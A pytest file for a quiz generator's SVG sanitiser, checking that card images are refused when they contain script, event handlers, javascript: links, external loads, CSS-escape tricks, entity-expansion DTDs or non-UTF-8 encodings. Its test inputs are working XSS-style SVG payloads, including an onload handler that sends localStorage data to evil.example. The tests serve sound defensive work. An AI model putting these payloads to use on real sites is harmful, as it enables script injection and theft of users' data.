"""SVG images from card repositories (quizgen/cards/svg.py): plain drawing only, since a published SVG is
also a page of the quiz's site that runs its script when opened."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from quizgen.cards import svg
from quizgen.cli import cli
from tests.support.projects import write_project

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PLAIN = (
    f'<?xml version="1.0"?>\n<svg {NS} viewBox="0 0 10 10"><title>t</title><defs><linearGradient id="g">'
    '<stop offset="0"/></linearGradient><style>.a { fill: url(#g) } '
    "@media (prefers-color-scheme: dark) { .a { fill: rgb(1, 2, 3) } }</style></defs>"
    '<rect class="a" width="10" height="10" style="fill: url(#g)"/><use xlink:href="#g"/>'
    '<image href="data:image/png;base64,AA=="/><text x="1" y="5">on</text>'
    '<animate attributeName="opacity" to="0"/></svg>'
)


def test_plain_drawing_passes(tmp_path: Path) -> None:
    (tmp_path / "a.svg").write_text(PLAIN)
    assert svg.problem(tmp_path / "a.svg") is None


ONLY = "only the XML declaration may open with <?"
AT_RULES = "only @media, @supports and @keyframes are allowed"
LOADS = "loads something (url() to other than a #fragment of the file)"
ESCAPE = "has a CSS escape ('\\'): write the characters themselves"


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ("<script>alert(1)</script>", "it has a <script> element"),
        ('<rect onload="alert(1)"/>', "it has an event handler (onload)"),
        ("<foreignObject><div/></foreignObject>", "it has a <foreignobject> element"),
        ('<h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script>', "it has a <script> element"),
        ('<h:p xmlns:h="http://www.w3.org/1999/xhtml"/>', "it has a <p> element"),
        (
            '<a xlink:href="javascript:alert(1)"><rect/></a>',
            "it refers outside itself (href 'javascript:alert(1)')",
        ),
        (
            '<image href="https://evil.example/x.png"/>',
            "it refers outside itself (href 'https://evil.example/x.png')",
        ),
        ('<set attributeName="xlink:href" to="javascript:alert(1)"/>', "an animation sets xlink:href"),
        ('<animate attributeName="onclick" to="x"/>', "an animation sets onclick"),
        (
            "<style>@import 'https://evil.example/x.css';</style>",
            f"its stylesheet has the at-rule @import ({AT_RULES})",
        ),
        ('<rect style="fill: url(https://evil.example/)"/>', f"its style attribute {LOADS}"),
        ('<rect fill="url(//evil.example/#a)"/>', f"its fill attribute {LOADS}"),
        ("<style>@\\69mport url(//evil.example/x.css);</style>", f"its stylesheet {ESCAPE}"),
        ('<rect style="fill: u\\72l(//evil.example/)"/>', f"its style attribute {ESCAPE}"),
        (
            "<style>.a { fill: image-set('//evil.example/x.png' 1x) }</style>",
            "its stylesheet has a CSS function image-set() (only drawing ones and url(#...) are allowed)",
        ),
        (
            '<?xml-stylesheet href="#x"?><rect/>',
            f"it has a processing instruction (<?xml-stylesheet) at line 1: {ONLY}",
        ),
        ("<rect", "it is not well-formed XML (not well-formed (invalid token): line 1, column 88)"),
    ],
)
def test_what_could_run_or_load_is_refused(tmp_path: Path, body: str, why: str) -> None:
    (tmp_path / "a.svg").write_text(f"<svg {NS}>{body}</svg>")
    assert svg.problem(tmp_path / "a.svg") == why


def test_entities_are_refused_unexpanded(tmp_path: Path) -> None:
    laughs = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    (tmp_path / "a.svg").write_text(f"{laughs}<svg {NS}><text>&b;</text></svg>")
    assert svg.problem(tmp_path / "a.svg") == "it has a DTD"


STYLESHEET = '<?xml version="1.0" encoding="UTF-16"?>\n<?xml-stylesheet type="text/xsl" href="#x"?>\n'


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (
            (STYLESHEET + f"<svg {NS}/>").encode("utf-16"),
            "it is not UTF-8 (it starts with a UTF-16 or UTF-32 byte order mark): save it as UTF-8",
        ),
        (
            (STYLESHEET + f"<svg {NS}/>").encode("utf-16-le"),
            "it is not UTF-8 text (it holds NUL bytes, as UTF-16 does): save it as UTF-8",
        ),
        ((STYLESHEET + f"<svg {NS}/>").encode(), "it declares the encoding UTF-16 (save it as UTF-8)"),
        (
            f'<?xml version="1.0"?><svg {NS}/>'.encode("latin-1") + b"\xe9",
            "it is not UTF-8 (byte 105): save it as UTF-8",
        ),
        (
            STYLESHEET.replace("UTF-16", "utf-8").encode() + f"<svg {NS}/>".encode(),
            f"it has a processing instruction (<?xml-stylesheet) at line 2: {ONLY}",
        ),
        (b"\xef\xbb\xbf" + f'<?xml version="1.0" encoding="utf-8"?>\n<svg {NS}/>'.encode(), None),
    ],
    ids=["utf-16-bom", "utf-16-no-bom", "declared-utf-16", "latin-1", "stylesheet-pi", "utf-8-bom"],
)
def test_only_utf8_without_processing_instructions_passes(
    tmp_path: Path, data: bytes, why: str | None
) -> None:
    (tmp_path / "a.svg").write_bytes(data)
    assert svg.problem(tmp_path / "a.svg") == why


def test_a_card_cannot_publish_a_scripted_svg_it_links_to(
    tmp_path: Path, runner: CliRunner, in_dir: Callable[[Path], None]
) -> None:
    # The image is copied into media/ under its content hash, which the card can compute and link to:
    # opened, the SVG's script ran in the quiz's origin (the learner's saved progress, the host's cookies).
    drawing = f"<svg {NS} onload=\"fetch('//evil.example/?'+localStorage.length)\"><rect/></svg>"
    name = f"qg-{hashlib.sha256(drawing.encode()).hexdigest()[:16]}.svg"
    text = (
        f'deck: D\ncards:\n  - id: one\n    kind: basic\n    front: "![d](d.svg) [more](../media/{name})"\n'
    )
    root = write_project(tmp_path, {"deck.yaml": text + "    back: ok\n"})
    (root / "cards" / "d.svg").write_text(drawing)
    in_dir(root)
    result = runner.invoke(cli, ["build"])
    assert result.exit_code == 1
    assert (
        "cards/deck.yaml:5:12: card 'one' -> front: image 'd.svg' is not plain drawing: it has an event "
        "handler (onload) (a published SVG is also a page of the quiz's site)"
    ) in result.output
    assert not list((root / "build").rglob(name)) and not list((root / "build").rglob("*.apkg"))


def test_a_file_that_is_not_an_svg_drawing_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.svg").write_text('<html xmlns="http://www.w3.org/1999/xhtml"><p>notes</p></html>')
    assert svg.problem(tmp_path / "a.svg") == "its root element is not <svg>"
